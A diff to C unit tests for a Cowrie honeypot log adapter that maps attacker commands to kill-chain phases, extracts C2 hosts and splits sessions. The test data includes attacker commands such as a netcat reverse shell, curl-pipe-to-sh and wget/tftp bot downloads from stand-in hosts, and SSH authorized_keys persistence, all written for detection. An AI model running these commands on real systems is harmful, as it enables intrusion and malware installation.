@@ -105,7 +105,7 @@ test_mapping(void **state)
         EV("cowrie.session.closed", "1.2.3.4", "s1", "2020-01-01T00:00:10.000000Z", ""),
         EV("cowrie.session.connect", "5.6.7.8", "s2", "2020-01-01T00:00:05.000000Z", ""),
         NULL};
-    cowrie_t *cw = cowrie_new();
+    cowrie_t *cw = cowrie_new(NULL);
     for (size_t i = 0; lines[i]; i++) {
         assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
     }
@@ -119,21 +119,37 @@ test_mapping(void **state)
     assert_string_equal(o->id, "cowrie:1.2.3.4");
     assert_string_equal(o->ip, "1.2.3.4");
     assert_string_equal(o->hassh, "0123abcd");
-    assert_int_equal(o->n_sessions, 1);
+    assert_null(o->ja3);
+    /* Logins, then commands, then a download with a URL: three runs of one phase. */
+    assert_int_equal(o->n_sessions, 3);
     const obs_session_t *s = &o->sessions[0];
     assert_string_equal(s->id, "s1");
     assert_string_equal(s->decky, "pot-1");
+    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
     assert_true(s->start == 1577836800.0);
-    assert_true(s->duration == 10.0);
-    assert_int_equal(s->n_commands, 2);
-    assert_string_equal(s->commands[0], "ls -la");
-    assert_string_equal(s->commands[1], "Enter new UNIX password:");
+    assert_true(s->duration == 2.0);
+    assert_int_equal(s->n_commands, 0);
     assert_int_equal(s->n_creds, 2);
     assert_string_equal(s->creds[0].user, "root");
     assert_string_equal(s->creds[1].pass, "toor");
+    s = &o->sessions[1];
+    assert_string_equal(s->id, "s1#2");
+    assert_string_equal(s->decky, "pot-1");
+    assert_int_equal(s->phase, UKC_EXECUTION);
+    assert_true(s->start == 1577836803.0);
+    assert_true(s->duration > 0.199 && s->duration < 0.201);
+    assert_int_equal(s->n_commands, 2);
+    assert_string_equal(s->commands[0], "ls -la");
+    assert_string_equal(s->commands[1], "Enter new UNIX password:");
+    assert_int_equal(s->n_creds, 0);
+    assert_null(s->payload_hash);
+    s = &o->sessions[2];
+    assert_string_equal(s->id, "s1#3");
+    assert_int_equal(s->phase, UKC_COMMAND_AND_CONTROL);
+    assert_true(s->start == 1577836804.0);
+    assert_true(s->duration == 6.0); /* the last run reaches session.closed */
     assert_string_equal(s->payload_hash, "aa11");
     assert_string_equal(s->c2, "evil.example");
-    assert_int_equal(s->phase, UKC_COMMAND_AND_CONTROL);
     const obs_t *o2 = got.obs[1];
     assert_string_equal(o2->id, "cowrie:5.6.7.8");
     assert_null(o2->hassh);
@@ -142,22 +158,22 @@ test_mapping(void **state)
     assert_int_equal(cowrie_lines(cw), 11);
     assert_int_equal(cowrie_bad(cw), 0);
     assert_int_equal(cowrie_sessions(cw), 2);
+    assert_int_equal(cowrie_cadre_sessions(cw), 4);
     assert_int_equal(cowrie_observations(cw), 2);
     s_got_clear(&got);
     cowrie_destroy(&cw);
     assert_null(cw);
 }
 
-/*  The phase of a one-session source fed lines. */
+/*  The phase of the last cadre session of a one-source input. */
 static ukc_phase_t
 s_phase_of(const char *const *lines)
 {
-    cowrie_t *cw = cowrie_new();
+    cowrie_t *cw = cowrie_new(NULL);
     s_got_t got = {0};
     s_run(cw, lines, &got);
     assert_int_equal(got.n, 1);
-    assert_int_equal(got.obs[0]->n_sessions, 1);
-    ukc_phase_t phase = got.obs[0]->sessions[0].phase;
+    ukc_phase_t phase = got.obs[0]->sessions[got.obs[0]->n_sessions - 1].phase;
     s_got_clear(&got);
     cowrie_destroy(&cw);
     return phase;
@@ -206,6 +222,30 @@ test_phases(void **state)
     assert_int_equal(s_phase_of(echo), UKC_EXECUTION);
 }
 
+/*  sha256("321\n") is the C2 campaign's marker on sweetie-2020 (132 IPs): it is kept. */
+static void
+test_echo_321_kept(void **state)
+{
+    (void)state;
+    const char *sha = "ff6f81930943c96a37d7741cd547ad90295a9bd63b6194b2a834a1d32bc8f85d";
+    char line[512];
+    snprintf(line, sizeof line,
+             EV("cowrie.session.file_download", "9.9.9.9", "p", T0,
+                ",\"shasum\":\"%s\",\"outfile\":\"x\""),
+             sha);
+    const char *lines[] = {LOGIN_OK, CMD("echo \\\"321\\\" > /var/tmp/.var03522123"), line, NULL};
+    cowrie_t *cw = cowrie_new(NULL);
+    s_got_t got = {0};
+    s_run(cw, lines, &got);
+    const obs_t *o = got.obs[0];
+    const obs_session_t *s = &o->sessions[o->n_sessions - 1];
+    assert_non_null(s->payload_hash);
+    assert_string_equal(s->payload_hash, sha);
+    assert_null(s->c2);
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
 static void
 test_out_of_order(void **state)
 {
@@ -221,16 +261,22 @@ test_out_of_order(void **state)
            ",\"input\":\"second\""),
         EV("cowrie.session.closed", "7.7.7.7", "o", "2020-01-01T00:00:05.900000Z", ""),
         NULL};
-    cowrie_t *cw = cowrie_new();
+    cowrie_t *cw = cowrie_new(NULL);
     s_got_t got = {0};
     s_run(cw, lines, &got);
+    assert_int_equal(got.obs[0]->n_sessions, 2);
     const obs_session_t *s = &got.obs[0]->sessions[0];
+    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
+    assert_true(s->start == 1577836805.0);
+    assert_true(s->duration == 0.0);
+    s = &got.obs[0]->sessions[1];
+    assert_int_equal(s->phase, UKC_EXECUTION);
     assert_int_equal(s->n_commands, 3);
     assert_string_equal(s->commands[0], "first");
     assert_string_equal(s->commands[1], "second");
     assert_string_equal(s->commands[2], "third");
-    assert_true(s->start == 1577836805.0);
-    assert_true(s->duration > 0.899 && s->duration < 0.901);
+    assert_true(s->start > 1577836805.099 && s->start < 1577836805.101);
+    assert_true(s->duration > 0.799 && s->duration < 0.801);
     s_got_clear(&got);
     cowrie_destroy(&cw);
 }
@@ -239,7 +285,7 @@ static void
 test_bad_lines(void **state)
 {
     (void)state;
-    cowrie_t *cw = cowrie_new();
+    cowrie_t *cw = cowrie_new(NULL);
     const char *good = EV("cowrie.login.failed", "3.3.3.3", "b", T0, ",\"username\":\"root\"");
     assert_int_equal(cowrie_feed(cw, good, strlen(good), 1), 0); /* no password: no pair */
     const char *array = "[1, 2, 3]";
@@ -293,7 +339,7 @@ test_legacy_hassh(void **state)
         EV("cowrie.client.version", "4.4.4.5", "i", T0,
            ",\"version\":\"SSH-2.0-x\",\"kexAlgs\":[\"kexa\"],\"encCS\":[\"aes128-ctr\"]"),
         NULL};
-    cowrie_t *cw = cowrie_new();
+    cowrie_t *cw = cowrie_new(NULL);
     for (size_t i = 0; lines[i]; i++) {
         assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
     }
@@ -305,6 +351,412 @@ test_legacy_hassh(void **state)
     /* md5("kexa,kexb;aes128-ctr;hmac-sha1;none") */
     assert_string_equal(got.obs[0]->hassh, "febae66b2c33545ec8a86899d0799304");
     assert_null(got.obs[1]->hassh); /* lists incomplete: no HASSH */
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  Every row of the phase table, by its own example. */
+static void
+test_rule_rows(void **state)
+{
+    (void)state;
+    assert_true(cowrie_rule_count() > 40);
+    for (size_t i = 0; i < cowrie_rule_count(); i++) {
+        const cowrie_rule_t *r = cowrie_rule_at(i);
+        ukc_phase_t got = cowrie_command_phase(r->example, NULL);
+        if (got != r->phase) {
+            fail_msg("row %zu ('%s'): example '%s' is %s, not %s", i, r->text, r->example,
+                     ukc_phase_name(got), ukc_phase_name(r->phase));
+        }
+    }
+    assert_null(cowrie_rule_at(cowrie_rule_count()));
+}
+
+/*  Commands and the phase the table gives them (priorities, program-word matching). */
+static void
+test_command_phases(void **state)
+{
+    (void)state;
+    const struct {
+        const char *cmd;
+        ukc_phase_t phase;
+    } cases[] = {
+        {"ls -la", UKC_EXECUTION},
+        {"echo hi", UKC_EXECUTION},
+        {"cat /etc/passwd", UKC_EXECUTION},
+        /* program words, not substrings: ".ssh " is no ssh, "nc" inside a word is no nc */
+        {"mkdir ~/.ssh && chmod 700 ~/.ssh ", UKC_EXECUTION},
+        {"sync; echo 3 > /proc/sys/vm/drop_caches", UKC_EXECUTION},
+        {"/usr/bin/ssh -p 2222 admin@10.1.1.1", UKC_LATERAL_MOVEMENT},
+        {"sudo -n true; sudo ps", UKC_DISCOVERY},
+        {"/bin/busybox ps", UKC_DISCOVERY},
+        {"LANG=C ps -ef", UKC_DISCOVERY},
+        /* priorities */
+        {"uname -a; echo x >> .ssh/authorized_keys", UKC_PERSISTENCE},
+        {"chattr -ia .ssh; echo x >> .ssh/authorized_keys", UKC_PERSISTENCE},
+        {"history -c; wget http://203.0.113.9/x", UKC_COMMAND_AND_CONTROL},
+        {"pkill -9 xmrig; wget http://203.0.113.9/x", UKC_IMPACT},
+        {"nc -l -p 4444", UKC_EXECUTION}, /* nc without a host: a listener */
+        {"nc -lvp 4444", UKC_EXECUTION},
+        {"echo \"321\" > /var/tmp/.var03522123", UKC_EXECUTION},
+        {"echo -e \"pw\\npw\" | passwd", UKC_PERSISTENCE},
+        {"enable", UKC_EXECUTION},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        ukc_phase_t got = cowrie_command_phase(cases[i].cmd, NULL);
+        if (got != cases[i].phase) {
+            fail_msg("'%s' is %s, not %s", cases[i].cmd, ukc_phase_name(got),
+                     ukc_phase_name(cases[i].phase));
+        }
+    }
+}
+
+/*  C2 hosts named in command text. */
+static void
+test_command_c2(void **state)
+{
+    (void)state;
+    const struct {
+        const char *cmd;
+        const char *host; /* NULL: none */
+    } cases[] = {
+        {"cd /tmp; wget http://203.0.113.5/bins.sh; chmod 777 bins.sh", "203.0.113.5"},
+        {"wget -O /tmp/x http://user@evil.example:8080/a", "evil.example"},
+        {"wget 198.51.100.7/x.sh", "198.51.100.7"},
+        {"wget -q bins.sh", NULL},
+        {"curl -s -o x https://dl.example.org/p | sh", "dl.example.org"},
+        {"curl -fsSL http://[2001:db8::1]:81/x", "2001:db8::1"},
+        {"/bin/busybox wget http://192.0.2.1/m -O- > m", "192.0.2.1"},
+        {"tftp -g -r mips 198.51.100.9", "198.51.100.9"},
+        {"tftp -r mips -g 198.51.100.9 69", "198.51.100.9"},
+        {"tftp 198.51.100.10 -c get mips", "198.51.100.10"},
+        {"busybox tftp -l x -r y -g tftp.example.net", "tftp.example.net"},
+        {"ftpget -v -u anonymous -p x 192.0.2.44 m m", "192.0.2.44"},
+        {"nc 203.0.113.7 4444 -e /bin/sh", "203.0.113.7"},
+        {"nc -w 3 203.0.113.8 80 < /dev/null", "203.0.113.8"},
+        {"ncat -lvp 4444", NULL},
+        {"wget $URL", NULL},
+        {"echo wget http://203.0.113.5/x", NULL}, /* echo is no transfer tool */
+        {"cat x | 'wget' \"http://q.example/x\"", "q.example"},
+        {"ls; curl http://a.example/1; wget http://b.example/2", "a.example"},
+        {"wget \"http://unterminated.example/x", "unterminated.example"},
+        {"nohup $SHELL -c \"curl http://129.144.180.26:60107/linux -o /tmp/Y; exec 6<>x\" &",
+         "129.144.180.26"},
+        {"sh -c 'cd /tmp; tftp -g -r a 192.0.2.200'", "192.0.2.200"},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        char *host = NULL;
+        cowrie_command_phase(cases[i].cmd, &host);
+        if (cases[i].host ? !host || strcmp(host, cases[i].host) != 0 : host != NULL) {
+            fail_msg("'%s': c2 '%s', wanted '%s'", cases[i].cmd, host ? host : "(none)",
+                     cases[i].host ? cases[i].host : "(none)");
+        }
+        free(host);
+    }
+    assert_int_equal(cowrie_command_phase("wget http://203.0.113.5/x", NULL),
+                     UKC_COMMAND_AND_CONTROL);
+}
+
+/*  One Cowrie session spanning phases becomes cadre sessions in time order; events
+    without a phase of their own join the run they fall in; a command's C2 host lands on
+    its run. */
+static void
+test_split(void **state)
+{
+    (void)state;
+    const char *lines[] = {EV("cowrie.session.connect", "6.6.6.6", "k", "2020-01-01T00:00:00Z", ""),
+                           EV("cowrie.client.version", "6.6.6.6", "k", "2020-01-01T00:00:01Z", ""),
+                           EV("cowrie.login.failed", "6.6.6.6", "k", "2020-01-01T00:00:02Z",
+                              ",\"username\":\"root\",\"password\":\"1\""),
+                           EV("cowrie.login.success", "6.6.6.6", "k", "2020-01-01T00:00:03Z",
+                              ",\"username\":\"root\",\"password\":\"2\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:04Z",
+                              ",\"input\":\"uname -a\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:05Z",
+                              ",\"input\":\"cat /proc/cpuinfo\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:06Z",
+                              ",\"input\":\"cd /tmp; tftp -g -r m 198.51.100.9\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:07Z",
+                              ",\"input\":\"echo 1 > /tmp/f\""),
+                           EV("cowrie.session.file_download", "6.6.6.6", "k",
+                              "2020-01-01T00:00:08Z", ",\"shasum\":\"dd\""),
+                           EV("cowrie.command.input", "6.6.6.6", "k", "2020-01-01T00:00:09Z",
+                              ",\"input\":\"uname -m\""),
+                           EV("cowrie.session.closed", "6.6.6.6", "k", "2020-01-01T00:00:20Z", ""),
+                           NULL};
+    cowrie_t *cw = cowrie_new(NULL);
+    s_got_t got = {0};
+    s_run(cw, lines, &got);
+    const obs_t *o = got.obs[0];
+    const struct {
+        const char *id;
+        ukc_phase_t phase;
+        double start, duration;
+        size_t commands, creds;
+    } want[] = {
+        {"k", UKC_CREDENTIAL_ACCESS, 0, 3, 0, 2},     {"k#2", UKC_DISCOVERY, 4, 1, 2, 0},
+        {"k#3", UKC_COMMAND_AND_CONTROL, 6, 0, 1, 0}, {"k#4", UKC_EXECUTION, 7, 1, 1, 0},
+        {"k#5", UKC_DISCOVERY, 9, 11, 1, 0},
+    };
+    assert_int_equal(o->n_sessions, 5);
+    for (size_t i = 0; i < 5; i++) {
+        const obs_session_t *s = &o->sessions[i];
+        assert_string_equal(s->id, want[i].id);
+        assert_int_equal(s->phase, want[i].phase);
+        assert_true(s->start == 1577836800.0 + want[i].start);
+        assert_true(s->duration == want[i].duration);
+        assert_int_equal(s->n_commands, want[i].commands);
+        assert_int_equal(s->n_creds, want[i].creds);
+    }
+    assert_string_equal(o->sessions[2].c2, "198.51.100.9");
+    assert_null(o->sessions[2].payload_hash);
+    assert_string_equal(o->sessions[3].payload_hash, "dd"); /* the echo's "download" */
+    assert_null(o->sessions[3].c2);
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  Every Cowrie event type the adapter reads, and some it ignores. */
+static void
+test_event_types(void **state)
+{
+    (void)state;
+    const char *lines[] = {
+        EV("cowrie.session.connect", "8.8.4.4", "e", "2024-04-01T00:00:00Z",
+           ",\"src_port\":40000,\"dst_port\":2222,\"protocol\":\"ssh\",\"sensor\":\"s\""),
+        EV("cowrie.client.version", "8.8.4.4", "e", "2024-04-01T00:00:00.1Z",
+           ",\"version\":\"SSH-2.0-libssh_0.9.6\""),
+        EV("cowrie.client.kex", "8.8.4.4", "e", "2024-04-01T00:00:00.2Z",
+           ",\"hassh\":\"f555226d\",\"kexAlgs\":[\"a\"]"),
+        EV("cowrie.client.fingerprint", "8.8.4.4", "e", "2024-04-01T00:00:01Z",
+           ",\"username\":\"admin\",\"fingerprint\":\"10:bd:be\",\"key\":\"ssh-rsa AAAA\","
+           "\"type\":\"ssh-rsa\""),
+        EV("cowrie.login.failed", "8.8.4.4", "e", "2024-04-01T00:00:02Z",
+           ",\"username\":\"admin\",\"password\":\"x\""),
+        EV("cowrie.login.success", "8.8.4.4", "e", "2024-04-01T00:00:03Z",
+           ",\"username\":\"admin\",\"password\":\"y\""),
+        EV("cowrie.session.params", "8.8.4.4", "e", "2024-04-01T00:00:03.5Z",
+           ",\"arch\":\"linux-x64-lsb\""),
+        EV("cowrie.client.size", "8.8.4.4", "e", "2024-04-01T00:00:03.6Z", ",\"width\":80"),
+        EV("cowrie.client.var", "8.8.4.4", "e", "2024-04-01T00:00:03.7Z", ",\"name\":\"LANG\""),
+        EV("cowrie.command.success", "8.8.4.4", "e", "2024-04-01T00:00:04Z",
+           ",\"input\":\"cat /bin/busybox\""),
+        EV("cowrie.command.input", "8.8.4.4", "e", "2024-04-01T00:00:05Z", ",\"input\":\"enable\""),
+        EV("cowrie.command.failed", "8.8.4.4", "e", "2024-04-01T00:00:05.1Z",
+           ",\"input\":\"enable\""),
+        EV("cowrie.session.file_download.failed", "8.8.4.4", "e", "2024-04-01T00:00:06Z",
+           ",\"url\":\"http://188.209.49.244/bot.x86_64\""),
+        EV("cowrie.session.file_upload", "8.8.4.4", "e", "2024-04-01T00:00:07Z",
+           ",\"shasum\":\"up1\",\"filename\":\"sshd\""),
+        EV("cowrie.direct-tcpip.request", "8.8.4.4", "e", "2024-04-01T00:00:08Z",
+           ",\"dst_ip\":\"77.88.21.158\",\"dst_port\":25,\"src_port\":5"),
+        EV("cowrie.direct-tcpip.data", "8.8.4.4", "e", "2024-04-01T00:00:09Z",
+           ",\"dst_ip\":\"azenv.net\",\"data\":\"b'GET /'\""),
+        EV("cowrie.log.closed", "8.8.4.4", "e", "2024-04-01T00:00:10Z", ",\"shasum\":\"tty\""),
+        EV("cowrie.session.closed", "8.8.4.4", "e", "2024-04-01T00:00:11Z", ",\"duration\":11"),
+        EV("cowrie.some.future.event", "8.8.4.4", "e", "2024-04-01T00:00:11Z", ""),
+        NULL};
+    cowrie_t *cw = cowrie_new(NULL);
+    s_got_t got = {0};
+    s_run(cw, lines, &got);
+    assert_int_equal(cowrie_bad(cw), 0);
+    const obs_t *o = got.obs[0];
+    assert_string_equal(o->hassh, "f555226d");
+    assert_int_equal(o->n_sessions, 5);
+    const obs_session_t *s = &o->sessions[0];
+    assert_int_equal(s->phase, UKC_CREDENTIAL_ACCESS);
+    assert_int_equal(s->n_creds, 3);
+    assert_string_equal(s->creds[0].user, "admin");
+    assert_string_equal(s->creds[0].pass, "publickey:10:bd:be");
+    assert_string_equal(s->creds[2].pass, "y");
+    s = &o->sessions[1];
+    assert_int_equal(s->phase, UKC_EXECUTION);
+    assert_int_equal(s->n_commands, 2); /* .success kept (no input), .failed repeat dropped */
+    assert_string_equal(s->commands[0], "cat /bin/busybox");
+    assert_string_equal(s->commands[1], "enable");
+    s = &o->sessions[2];
+    assert_int_equal(s->phase, UKC_COMMAND_AND_CONTROL);
+    assert_string_equal(s->c2, "188.209.49.244");
+    assert_null(s->payload_hash);
+    s = &o->sessions[3];
+    assert_int_equal(s->phase, UKC_DELIVERY);
+    assert_string_equal(s->payload_hash, "up1");
+    s = &o->sessions[4];
+    assert_int_equal(s->phase, UKC_PIVOTING);
+    assert_null(s->c2); /* a tunnel's destination is a victim, not a C2 */
+    assert_true(s->start == 1711929608.0 && s->duration == 3.0);
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  Old Cowrie versions: command text only in "message" ("CMD: ..."); kex lists on the
+    version event (test_legacy_hassh); a string src_port. */
+static void
+test_old_schema(void **state)
+{
+    (void)state;
+    const char *lines[] = {
+        EV("cowrie.session.connect", "5.5.5.5", "m", T0, ",\"src_port\":\"1234\""),
+        EV("cowrie.command.input", "5.5.5.5", "m", T0, ",\"message\":\"CMD: uname -a\""),
+        EV("cowrie.command.input", "5.5.5.5", "m", T0, ",\"message\":\"not a command\""), NULL};
+    cowrie_t *cw = cowrie_new(NULL);
+    s_got_t got = {0};
+    s_run(cw, lines, &got);
+    const obs_session_t *s = &got.obs[0]->sessions[0];
+    assert_int_equal(s->phase, UKC_DISCOVERY);
+    assert_int_equal(s->n_commands, 1);
+    assert_string_equal(s->commands[0], "uname -a");
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+#define DAY1 "2019-12-03T10:00:00Z"
+#define DAY2 "2019-12-04T10:00:00Z"
+
+/*  Grouping by IP and sensor (T-Pot's sensor id changes every day). */
+static void
+test_group_sensor(void **state)
+{
+    (void)state;
+    const char *lines[] = {EV("cowrie.session.connect", "2.2.2.2", "a", DAY1, ",\"sensor\":\"c1\""),
+                           EV("cowrie.session.connect", "2.2.2.2", "b", DAY2, ",\"sensor\":\"c2\""),
+                           EV("cowrie.session.connect", "2.2.2.2", "c", DAY2, ""),
+                           EV("cowrie.client.version", "2.2.2.2", "b", DAY2,
+                              ",\"version\":\"b'SSH-2.0-Go'\",\"sensor\":\"c2\""),
+                           NULL};
+    cowrie_opts_t opts = {.group = COWRIE_GROUP_IP_SENSOR};
+    cowrie_t *cw = cowrie_new(&opts);
+    for (size_t i = 0; lines[i]; i++) {
+        assert_int_equal(cowrie_feed(cw, lines[i], strlen(lines[i]), i + 1), 0);
+    }
+    assert_string_equal(cowrie_client_version(cw, "2.2.2.2@c2"), "SSH-2.0-Go");
+    assert_null(cowrie_client_version(cw, "2.2.2.2"));
+    s_got_t got = {0};
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.n, 3);
+    assert_string_equal(got.obs[0]->id, "cowrie:2.2.2.2@c1");
+    assert_string_equal(got.obs[1]->id, "cowrie:2.2.2.2@c2");
+    assert_string_equal(got.obs[2]->id, "cowrie:2.2.2.2"); /* no sensor: the IP alone */
+    assert_string_equal(got.obs[1]->ip, "2.2.2.2");
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+    /* By IP (the default), the same input is one observation recurring over two days. */
+    cw = cowrie_new(NULL);
+    s_run(cw, lines, &got);
+    assert_int_equal(got.n, 1);
+    assert_string_equal(got.obs[0]->id, "cowrie:2.2.2.2");
+    assert_int_equal(got.obs[0]->n_sessions, 3);
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+}
+
+/*  Idle flush: a source is emitted once event time is flush_idle past its last event; a
+    later return makes "~2". Memory follows the sources active in the window. */
+static void
+test_flush_idle(void **state)
+{
+    (void)state;
+    cowrie_opts_t opts = {.flush_idle = 3600};
+    cowrie_t *cw = cowrie_new(&opts);
+    s_got_t got = {0};
+    char line[512];
+    /* 500 sources, one new every 60 s, each seen twice 30 s apart. */
+    uint64_t no = 0;
+    for (int i = 0; i < 500; i++) {
+        for (int rep = 0; rep < 2; rep++) {
+            long t = 1577836800L + i * 60L + rep * 30L;
+            snprintf(line, sizeof line,
+                     "{\"eventid\":\"cowrie.session.connect\",\"src_ip\":\"10.0.%d.%d\","
+                     "\"session\":\"s%d\",\"timestamp\":\"2020-01-01T%02ld:%02ld:%02ldZ\"}",
+                     i / 256, i % 256, i, (t / 3600) % 24, (t / 60) % 60, t % 60);
+            assert_int_equal(cowrie_feed(cw, line, strlen(line), ++no), 0);
+            assert_int_equal(cowrie_emit_idle(cw, s_collect, &got), 0);
+        }
+    }
+    assert_int_equal(got.checked, 0);
+    assert_true(got.n >= 430 && got.n < 500);
+    assert_true(cowrie_open_peak(cw) <= 62);
+    assert_string_equal(got.obs[0]->id, "cowrie:10.0.0.0");
+    /* The first source returns: a new observation with a suffixed id. */
+    snprintf(line, sizeof line, "%s",
+             EV("cowrie.session.connect", "10.0.0.0", "again", "2020-01-01T09:00:00Z", ""));
+    assert_int_equal(cowrie_feed(cw, line, strlen(line), ++no), 0);
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.n, 501);
+    assert_int_equal(cowrie_observations(cw), 501);
+    assert_int_equal(cowrie_open(cw), 0);
+    assert_string_equal(got.obs[500]->id, "cowrie:10.0.0.0~2");
+    /* Every source once, in first-seen order. */
+    for (int i = 0; i < 500; i++) {
+        char id[64];
+        snprintf(id, sizeof id, "cowrie:10.0.%d.%d", i / 256, i % 256);
+        assert_string_equal(got.obs[i]->id, id);
+        assert_int_equal(got.obs[i]->n_sessions, 1);
+    }
+    s_got_clear(&got);
+    cowrie_destroy(&cw);
+    /* Without flush_idle, cowrie_emit_idle does nothing. */
+    cw = cowrie_new(NULL);
+    assert_int_equal(cowrie_feed(cw, line, strlen(line), 1), 0);
+    assert_int_equal(cowrie_emit_idle(cw, s_collect, &got), 0);
+    assert_int_equal(got.n, 0);
+    assert_int_equal(cowrie_open(cw), 1);
+    cowrie_destroy(&cw);
+}
+
+/*  Reads a fixture file under TESTDATA_DIR/cowrie into a feed function. */
+static void
+s_feed_fixture(cowrie_t *cw, const char *name,
+               int (*feed)(cowrie_t *, const char *, size_t, uint64_t))
+{
+    const char *dir = getenv("TESTDATA_DIR");
+    assert_non_null(dir);
+    char *path = xasprintf("%s/cowrie/%s", dir, name);
+    FILE *f = fopen(path, "r");
+    assert_non_null(f);
+    char *line = NULL;
+    size_t cap = 0;
+    ssize_t n;
+    uint64_t no = 0;
+    while ((n = getline(&line, &cap, f)) >= 0) {
+        size_t len = (size_t)n;
+        if (len > 0 && line[len - 1] == '\n') {
+            len--;
+        }
+        feed(cw, line, len, ++no);
+    }
+    free(line);
+    fclose(f);
+    free(path);
+}
+
+/*  fatt join by (src_ip, src_port): JA3, network-side HASSH (Cowrie's own kex HASSH
+    first), server-side records ignored, nearest in time within the window. */
+static void
+test_fatt_join(void **state)
+{
+    (void)state;
+    cowrie_t *cw = cowrie_new(NULL);
+    s_feed_fixture(cw, "fatt.jsonl", cowrie_fatt_feed);
+    assert_int_equal(cowrie_fatt_bad(cw), 1);
+    assert_int_equal(cowrie_fatt_records(cw), 6);
+    s_feed_fixture(cw, "fatt_sessions.jsonl", cowrie_feed);
+    assert_int_equal(cowrie_bad(cw), 0);
+    s_got_t got = {0};
+    assert_int_equal(cowrie_finish(cw, s_collect, &got), 0);
+    assert_int_equal(got.checked, 0);
+    assert_int_equal(got.n, 4);
+    /* 203.0.113.1: no Cowrie kex; fatt's client HASSH (not hasshServer) and JA3. */
+    assert_string_equal(got.obs[0]->id, "cowrie:203.0.113.1");
+    assert_string_equal(got.obs[0]->hassh, "c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1c1");
+    assert_string_equal(got.obs[0]->ja3, "3b5074b1b5d032e5620f69f9f700ff0e");
+    /* 203.0.113.2: Cowrie's own kex HASSH wins over fatt's. */
+    assert_string_equal(got.obs[1]->hassh, "cafecafecafecafecafecafecafecafe");
+    /* 203.0.113.3: the port matches but the fatt record is a day away: no join. */
+    assert_null(got.obs[2]->hassh);
+    /* 203.0.113.4: port reused; the record nearest the connect time wins. */
+    assert_string_equal(got.obs[3]->hassh, "d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2d2");
+    assert_int_equal(cowrie_fatt_joined(cw), 4);
     s_got_clear(&got);
     cowrie_destroy(&cw);
 }
@@ -346,7 +798,7 @@ test_real_file(void **state)
     assert_non_null(path);
     FILE *f = fopen(path, "r");
     assert_non_null(f);
-    cowrie_t *cw = cowrie_new();
+    cowrie_t *cw = cowrie_new(NULL);
     json_t *ips = json_object();
     char *line = NULL;
     size_t cap = 0;
@@ -379,7 +831,8 @@ test_real_file(void **state)
     for (size_t i = 0; i < got.n; i++) {
         sessions += got.obs[i]->n_sessions;
     }
-    assert_int_equal(sessions, cowrie_sessions(cw));
+    assert_int_equal(sessions, cowrie_cadre_sessions(cw));
+    assert_true(cowrie_cadre_sessions(cw) >= cowrie_sessions(cw));
     json_decref(ips);
     s_got_clear(&got);
     cowrie_destroy(&cw);
@@ -390,9 +843,14 @@ int
 main(void)
 {
     const struct CMUnitTest tests[] = {
-        cmocka_unit_test(test_parse_time), cmocka_unit_test(test_mapping),
-        cmocka_unit_test(test_phases),     cmocka_unit_test(test_out_of_order),
-        cmocka_unit_test(test_bad_lines),  cmocka_unit_test(test_legacy_hassh),
+        cmocka_unit_test(test_parse_time),     cmocka_unit_test(test_mapping),
+        cmocka_unit_test(test_phases),         cmocka_unit_test(test_echo_321_kept),
+        cmocka_unit_test(test_out_of_order),   cmocka_unit_test(test_bad_lines),
+        cmocka_unit_test(test_legacy_hassh),   cmocka_unit_test(test_rule_rows),
+        cmocka_unit_test(test_command_phases), cmocka_unit_test(test_command_c2),
+        cmocka_unit_test(test_split),          cmocka_unit_test(test_event_types),
+        cmocka_unit_test(test_old_schema),     cmocka_unit_test(test_group_sensor),
+        cmocka_unit_test(test_flush_idle),     cmocka_unit_test(test_fatt_join),
         cmocka_unit_test(test_real_file),
     };
     return cmocka_run_group_tests(tests, NULL, NULL);
